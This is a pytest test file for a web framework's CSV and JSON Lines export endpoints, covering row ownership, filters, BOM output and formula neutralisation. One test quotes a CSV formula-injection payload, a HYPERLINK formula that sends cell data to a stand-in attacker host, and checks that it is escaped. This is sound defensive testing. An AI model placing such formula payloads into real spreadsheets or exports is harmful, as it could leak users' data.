"""CSV and JSON Lines over HTTP: parsed back, neutralised, filtered, only one's own rows."""

import csv
import io
import json

from rustforge.contrib.export import neutralise


def rows_of(response):
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text)))


def test_csv_parses_back_with_every_row(ada_client, ledger):
    response = ada_client.get("/export/entries.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="entries-')
    rows = rows_of(response)
    assert rows[0] == ["Id", "Account", "Description", "Memo", "Amount", "Quantity",
                       "Booked on", "Cleared"]
    assert len(rows) == 1 + 10  # ada's entries only, not bob's
    assert {row[1] for row in rows[1:]} == {"Ada's cash"}
    assert rows[1][4] == "-5.25"  # a negative number stays a number
    assert rows[1][6] == "2026-01-01"
    assert rows[1][7] == "true" and rows[2][7] == "false"
    assert "Привет, мир" in [row[2] for row in rows]


def test_formula_payloads_come_out_neutralised(ada_client, ledger):
    cells = [row[2] for row in rows_of(ada_client.get("/export/entries.csv"))[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
    assert {"'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\tTabbed", "'\rReturned"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "Coffee" in cells


def test_neutralise_leaves_other_values_alone():
    assert neutralise("=1") == "'=1"
    assert neutralise("＝1") == "'＝1"
    assert neutralise("a=1") == "a=1"
    assert neutralise("") == ""
    assert neutralise(-3) == -3


def test_bom_on_request(ada_client, ledger):
    response = ada_client.get("/export/entries.csv?bom=1")
    assert response.content.startswith(b"\xef\xbb\xbf\"Id\"") or \
        response.content.startswith(b"\xef\xbb\xbfId,")
    assert not ada_client.get("/export/entries.csv").content.startswith(b"\xef\xbb\xbf")


def test_filters_and_ordering(ada_client, ledger):
    rows = rows_of(ada_client.get("/export/entries.csv?amount__gte=0&cleared=true"
                                  "&ordering=-amount"))
    amounts = [float(row[4]) for row in rows[1:]]
    assert amounts == sorted(amounts, reverse=True) and amounts
    assert all(a >= 0 for a in amounts)
    assert {row[7] for row in rows[1:]} == {"true"}
    rows = rows_of(ada_client.get("/export/entries.csv?description__contains=offe"))
    assert [row[2] for row in rows[1:]] == ["Coffee"]
    rows = rows_of(ada_client.get("/export/entries.csv?quantity__in=1,2,3"))
    assert sorted(row[5] for row in rows[1:]) == ["1", "2", "3"]
    rows = rows_of(ada_client.get("/export/entries.csv?account.name=Bob%27s%20bank"))
    assert rows[1:] == []  # bob's rows stay bob's, whatever the filter


def test_jsonl(ada_client, ledger):
    response = ada_client.get("/export/entries.jsonl?ordering=id")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/jsonl")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert len(lines) == 10
    assert lines[0]["description"] == "Coffee"
    assert lines[0]["amount"] == "-5.25" and lines[0]["booked_on"] == "2026-01-01"
    assert lines[0]["cleared"] is True and lines[0]["account.name"] == "Ada's cash"
    assert lines[7]["description"] == "Привет, мир"


def test_superuser_sees_every_row_and_formatter_applies(client, ledger, login, make_user):
    boss = make_user("boss", is_staff=True, is_superuser=True)
    login(client, boss)
    rows = rows_of(client.get("/export/entries.csv"))
    assert len(rows) == 1 + 13
    assert [row[4] for row in rows if row[2].startswith("Bob")] == ["1.00"] * 3  # two places
    rows = rows_of(client.get("/export/accounts.csv"))
    assert rows[1:] == [[rows[1][0], "ADA'S CASH"], [rows[2][0], "BOB'S BANK"]]


def test_index_lists_what_the_user_may_export(ada_client, ledger):
    listed = ada_client.get("/export/").json["exports"]
    assert [e["name"] for e in listed] == ["entries"]  # accounts is staff only
    assert listed[0]["urls"]["csv"] == "/export/entries.csv"
